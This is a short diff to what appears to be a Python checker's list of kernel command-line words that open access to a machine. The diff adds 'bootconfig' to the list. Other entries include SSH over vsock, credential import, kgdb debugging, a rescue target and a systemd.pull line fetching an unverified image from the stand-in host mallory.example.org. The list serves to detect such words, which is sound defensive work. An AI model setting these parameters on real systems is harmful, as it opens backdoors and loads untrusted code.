@@ -126,7 +126,7 @@ WORDS = (
     *("systemd.ssh_listen=vsock::22", "systemd.ssh_auto", "systemd.ssh_auto=yes", "systemd.firstboot=1"),
     *("systemd.run_success_action=none", "systemd.import_credentials=1", "systemd.set_credential_binary=x:eA=="),
     *("systemd.pull=tar,machine,verify=no:x:http://mallory.example.org/x", "systemd.volatile=yes", "systemd.new_word"),
-    *("kgdboc=ttyS0", "kgdbwait", "ekgdboc=kbd", "systemd.default_unit=rescue.target"),
+    *("kgdboc=ttyS0", "kgdbwait", "ekgdboc=kbd", "bootconfig", "systemd.default_unit=rescue.target"),
 )
 """Words of the kernel's command line that let somebody in, also where a recipe has them."""
 OTHER_WORDS = (
